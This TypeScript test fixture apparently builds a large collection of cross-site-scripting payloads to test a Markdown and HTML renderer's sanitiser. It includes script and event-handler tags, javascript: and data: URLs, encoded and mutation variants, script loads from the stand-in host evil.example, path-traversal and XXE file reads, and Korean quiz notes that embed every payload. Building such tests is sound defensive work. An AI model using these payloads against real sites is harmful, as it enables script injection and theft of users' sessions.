/**
 * Ways to get a script into a page, after the well-known collections (OWASP's filter evasion sheet, PortSwigger's events,
 * Markdown renderers' old holes), each calling `alert`. Grouped by where a renderer would have to be fooled.
 */

const events = [
  'onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover onpointerdown ontoggle onbeforetoggle',
  'onanimationstart onanimationend ontransitionend onwheel onscroll onscrollend onresize onhashchange onpopstate',
  'onpageshow onbegin onend onstart onfinish onbounce oncut onpaste oncopy onsearch oninput onchange oninvalid',
  'onsubmit onreset onselect ondrag ondrop onauxclick oncontextmenu onkeydown oncanplay onplay onloadstart onseeked',
].flatMap((line) => line.split(' '))

const tagsWithEvents = events.map((event, index) => {
  const tag = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'details open',
    'input autofocus',
    'marquee',
    'a href=#x',
  ][index % 8]
  return `<${tag} ${event}=alert(1)>`
})

const tags = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<script\u000Bx>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x" archive="//evil.example/x.jar"></applet>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<div style="background-image:url(//evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1)></video>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img src=x srcset="//evil.example/x.png 2x">',
  '<img/src="x"/onerror="alert(1)">',
  '<img\nsrc=x\nonerror\n=\nalert(1)>',
  '<IMG SRC=x ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>',
  '<image src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href=javascript&colon;alert&lpar;1&rpar;>x</a>',
  '<a target=_blank href="data:text/html,<script>alert(1)</script>">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&ltimg onerror=alert(1) src=x&gt</listing>',
  '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
  '<portal src="javascript:alert(1)"></portal>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<% alert(1) %>',
  '{{constructor.constructor("alert(1)")()}}',
  '$\u007balert(1)}',
  '<b id=page name=page>{"site":{}}</b>',
  '<input id=root name=createElement>',
  '"onmouseover="alert(1)',
  "'onmouseover='alert(1)",
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '\u2028alert(1)\u2029',
  '</script\u00A0><script>alert(1)//',
  '<script>/*\u0000*/alert(1)</script>',
]

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)',
  '\u0001javascript:alert(1)',
  'java\u0000script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '<java\tscript:alert(1)>',
  '<javascript:alert(1)>',
  '< javascript:alert(1)>',
  '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
  'javascript%3Aalert(1)',
  'javascript\\:alert(1)',
  'java\\script:alert(1)',
  'javascript://example.com/%0Aalert(1)',
  'javascript:javascript:alert(1)',
  'javascript:void(0);alert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  "javascript:'/*\\\"/*`/*'/**/(alert(1))//",
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'DATA:text/html,alert(1)',
  'vbscript:msgbox(1)',
  'VbScRiPt:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'jar:javascript:alert(1)!/',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'file:///etc/passwd',
  'intent://x#Intent;scheme=javascript;end',
  'about:blank',
  '//evil.example/x.png',
  '\\\\evil.example\\x.png',
  '/\\evil.example/x.png',
  'https:evil.example/x.png',
  'https:///evil.example/x.png',
  'https://evil.example/x.png',
  'http://evil.example/x.png',
  'ftp://evil.example/x.png',
  'https://user:pass@evil.example/x.png',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '/etc/passwd',
  'img/..\\..\\package.json',
  '#"><img src=x onerror=alert(1)>',
  '"onerror="alert(1)',
  'x" onerror="alert(1)',
  "x' onerror='alert(1)",
  'x.png?"><script>alert(1)</script>',
  'x.png "title\\" onerror=\\"alert(1)"',
]

/** What is read into blocks of the site's own, many in one: each payload costs a page. */
const blocks = [
  [
    '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary><script>alert(1)</script></details>',
    '<details><summary><img src=x onerror=alert(1)></summary><a href=javascript:alert(1)>x</a></details>',
    '<div onmouseover=alert(1) style="position:fixed;inset:0"><p onclick=alert(1)>x</p></div>',
    '<table onload=alert(1)><tr><td onclick=alert(1) style="background:url(//evil.example/x.png)">x</td></tr></table>',
    '<ul><li onclick=alert(1)><svg onload=alert(1)></li></ul>',
    '<pre onclick=alert(1)><code class="language-<script>alert(1)</script>">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>',
    '<b onclick=alert(1) style="color:red">x</b><kbd onfocus=alert(1) tabindex=1>x</kbd>',
  ].join(' '),
  [
    '<a href="&#106;avascript:alert(1)" onclick=alert(1)><img src="//evil.example/x.png" width="9" onerror=alert(1)></a>',
    '<a href="&#x01;javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a><a href="//evil.example/">x</a>',
    '<img src="https://evil.example/x.png" width="100%" alt="x&quot; onerror=&quot;alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" srcset="//evil.example/x.png">',
    '<blockquote><h1 id=page><script>alert(1)</script></h1></blockquote>',
    '[[<img src=x onerror=alert(1)>]] [[#"><script>alert(1)</script>|x]] ![[//evil.example/x.png]] ![[x"onerror=alert(1).png|9]]',
    '[x](#"><script>alert(1)</script>) [x](x.md#javascript:alert(1)) <a id="javascript:alert(1)" name=createElement>x</a>',
    '$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}^2$ $$\\text{</math><script>alert(1)</script>}_1$$',
    '==**x** <img src=x onerror=alert(1)> [x](javascript:alert(1))== [x][<script>alert(1)</script>] #<script>alert(1)</script>',
    '==<script>alert(1)</script>== :<img src=x onerror=alert(1)>: $\\href{javascript:alert(1)}{x}$',
  ].join(' '),
  [
    '![x](javascript:alert(1) =300x) ![x](//evil.example/x.png =9x9) ![x](data:image/svg+xml,<svg/onload=alert(1)> =1x1)',
    '![x](x.png =300x"onerror=alert(1)) ![x](x.png =1xexpression(alert(1))) ![" onerror="alert(1)](x.png =9x)',
    '![x](x.png){width=9 onerror=alert(1)} ![x](x.png){style="position:fixed;background:url(//evil.example/x)" .x #page}',
    '![x](//evil.example/x.png){width="9\\" onload=\\"alert(1)"} ![x](javascript:alert(1)){: width="9" onclick="alert(1)" }',
    '<ruby onclick=alert(1) style="position:fixed">x<rp onclick=alert(1)>(</rp><rt onfocus=alert(1) tabindex=1><img src=x onerror=alert(1)></rt></ruby>',
    '<ruby><script>alert(1)</script><rt><svg onload=alert(1)><ruby>',
  ].join(' '),
  [
    '<iframe src="javascript:alert(1)" title="<script>alert(1)</script>" onload=alert(1)></iframe>',
    '<iframe src="//evil.example/x" srcdoc="<script>alert(1)</script>" style="position:fixed"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe> <iframe src="&#106;avascript:alert(1)">',
    '<video src="javascript:alert(1)" poster="//evil.example/x.png" autoplay onplay=alert(1)></video>',
    '<video src="https://evil.example/x.mp4" onloadstart=alert(1)><track src="//evil.example/x.vtt"></video>',
    '<video><source src="data:text/html,<script>alert(1)</script>" onerror=alert(1)></video><audio src="blob:x" onplay=alert(1)>',
    '\\[\\href{javascript:alert(1)}{x}\\] \\(\\text{</math><script>alert(1)</script>}^2\\)',
    '\\[\\text{<img src=x onerror=alert(1)>}_1\\] \\[\\style{position:fixed}{x}\\] \\(\\url{//evil.example/}\\)',
    '\\[\\includegraphics{//evil.example/x.png}\\] \\[\\class{x" onclick="alert(1)}{x^2}\\]',
  ].join(' '),
  '> [!NOTE] <img src=x onerror=alert(1)>\n> <script>alert(1)</script>',
  [
    ':::tip <img src=x onerror=alert(1)> "onclick="alert(1)',
    '[x](javascript:alert(1)) <script>alert(1)</script>',
    ':::details[<svg onload=alert(1)>]{style="position:fixed" onclick=alert(1)}',
    '![x](//evil.example/x.png =9x)',
    ':::',
    ':::',
    '!!! note "<img src=x onerror=alert(1)>"',
    '    <script>alert(1)</script> [x](data:text/html,<script>alert(1)</script>)',
    '??? tip "</summary><script>alert(1)</script>"',
    '    <div style="position:fixed" onclick=alert(1)>x</div>',
    '<script>alert(1)</script>',
    ': <img src=x onerror=alert(1)> [x](javascript:alert(1))',
    ':::warning',
  ].join('\n'),
  `${':::tip <b onclick=alert(1)>\n'.repeat(40)}<script>alert(1)</script>`,
  '<details>'.repeat(40),
  '<b><i><u><s><div><table><tr><td>'.repeat(20),
]

/** Every payload that stands by itself in text. */
export const hostileTexts: readonly string[] = [
  ...tags,
  ...tagsWithEvents,
  ...addresses.flatMap((address) => [`[x](${address})`, `![x](${address})`]),
  ...addresses.slice(0, 30).map((address) => `<${address}>`),
  '[x][r]\n\n[r]: javascript:alert(1)',
  '![x][r]\n\n[r]: javascript:alert(1) "t"',
  '[x]: (javascript:alert(1))',
  '[<img src=x onerror=alert(1)>](https://example.com/)',
  '[x](https://example.com/ "\\"onmouseover=alert(1) ")',
  '![<img src=x onerror=alert(1)>](x.png)',
  '![" onerror="alert(1)](x.png)',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](j\na\nv\na\ns\nc\nr\ni\np\nt:alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '``</code><script>alert(1)</script>``',
  '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| [x](javascript:alert(1)) | <script>alert(1)</script> |',
  '> <script>alert(1)</script>\n> [x](javascript:alert(1))',
  '**<img src=x onerror=alert(1)>** ~~<script>alert(1)</script>~~',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  'www.evil.example/<script>alert(1)</script>',
  'https://evil.example/"onmouseover="alert(1)',
  'javascript:alert(1)//evil@example.com',
  ...blocks,
  '<!-- id: "><script>alert(1)</script> -->',
  '<!-- id: ../../../index -->',
  '<!-- not-questions --><script>alert(1)</script>',
]

/**
 * One note that carries every payload: as a question, in its answer, as link text, and in a code block with the payload in
 * the info string too. A payload with several lines is indented to stay inside its answer.
 */
export function hostileNote(): string {
  const questions = hostileTexts.map((payload, index) => {
    const [first = ''] = payload.split('\n')
    const inside = payload.replaceAll('\n', '\n    ')
    const fence = `\`\`\`${first.replaceAll('`', '')}\n${payload}\n\`\`\``
    return `- ${index}번 ${first} 이것은 무엇인가요?\n  - ${inside}\n  - 앞 ${first} 뒤 [${first}](https://example.com/${index})\n\n${fence}\n`
  })
  const front = [
    'title: "</title><script>alert(1)</script>"',
    `description: "'><script>alert(1)</script><meta http-equiv=refresh content='0;url=javascript:alert(1)'>"`,
    'tags: [</script><script>alert(1)</script>, "\'><img src=x onerror=alert(1)>", __proto__, constructor]',
  ]
  return `---\n${front.join('\n')}\n---\n# 시험 </title><script>alert(1)</script>\n\n### <img src=x onerror=alert(1)> & "주제"\n\n${questions.join('\n')}`
}

const attack =
  '<img src=x onerror=alert(1)> <svg/onload=alert(1)> </title></h3></dt></script><script>alert(1)</script> [x](javascript:alert(1)) "onmouseover="alert(1)'

/** A heading of HTML with a picture in it asks nothing. */
const withoutPicture = attack.replace(/^<img[^>]*> |<\/h3>|<\/dt>/g, '')

/** Notes in other ways of writing, by their file: each puts the same attack wherever such a note may hold text of its author. */
export const hostileDialects: Readonly<Record<string, string>> = {
  'hostile-labels.md': [
    `# 이름표 ${attack}`,
    `## Q1. ${attack} 왜 그런가요?`,
    `### ${attack}`,
    attack,
    `#### 정답: ${attack}`,
    attack,
    '## 문제 2',
    `\`\`\`${attack.replaceAll('`', '')}\n${attack}\n\`\`\``,
    `${attack} 결과는?`,
    `1) ${attack}`,
    `**정답: ${attack}**`,
    `**Q. ${attack} 뭔가요?** ${attack}`,
  ].join('\n\n'),
  'hostile-names.md': [
    `# 이름 ${attack}`,
    `<script>: ${attack} 왜 그런가요?\n강사: ${attack}`,
    `🙋 학생: ${attack} 왜 그런가요?\n👉 강사: ${attack}`,
    `🙋 학생: ${attack} 왜 아닌가요?\n👉 강사: ${attack}`,
  ].join('\n\n'),
  'hostile-chat.md': [
    `# 대화 ${attack}`,
    `학생: ${attack} 왜 그런가요?\n강사: ${attack}\n<script>: ${attack}`,
    `학생: ${attack} 왜 아닌가요?\n강사: :::tip ${attack}`,
  ].join('\n\n'),
  'hostile-lines.md': [
    `# 줄 ${attack}`,
    ...['가', '나', '다', '라'].map((name) => `${name} ${attack} 왜 그런가요?\n${attack}\n: ${attack}`),
  ].join('\n\n'),
  'hostile-nested.md': [
    `# 묶음 ${attack}`,
    ...['가', '나', '다'].map(
      (name) =>
        `- ${name} ${attack}\n  - ${name} ${attack} 왜 그런가요?\n    - ${attack}\n  - ${name} ${attack} 언제인가요?\n    - ${attack}`,
    ),
  ].join('\n'),
  'hostile-titles.md': [
    `<h1 onclick=alert(1) style="position:fixed">제목 ${attack}</h1>`,
    ...['하나', '둘', '셋'].map(
      (name) =>
        `<h2 id="x" onclick=alert(1)>Ⅰ. ${name} ${withoutPicture} 왜 쓰나요?</h2>\n\n<h3 onfocus=alert(1) tabindex=1>${attack}</h3>\n\n${attack}`,
    ),
  ].join('\n\n'),
  'hostile-terms.md': `# 용어\n\n<dl onclick=alert(1)>\n${[1, 2, 3]
    .map(
      (n) =>
        `<dt onclick=alert(1)>${n} ${withoutPicture} 뭔가요?</dt>\n<dd style="position:fixed">${attack}</dd>`,
    )
    .join('\n')}\n</dl>`,
}
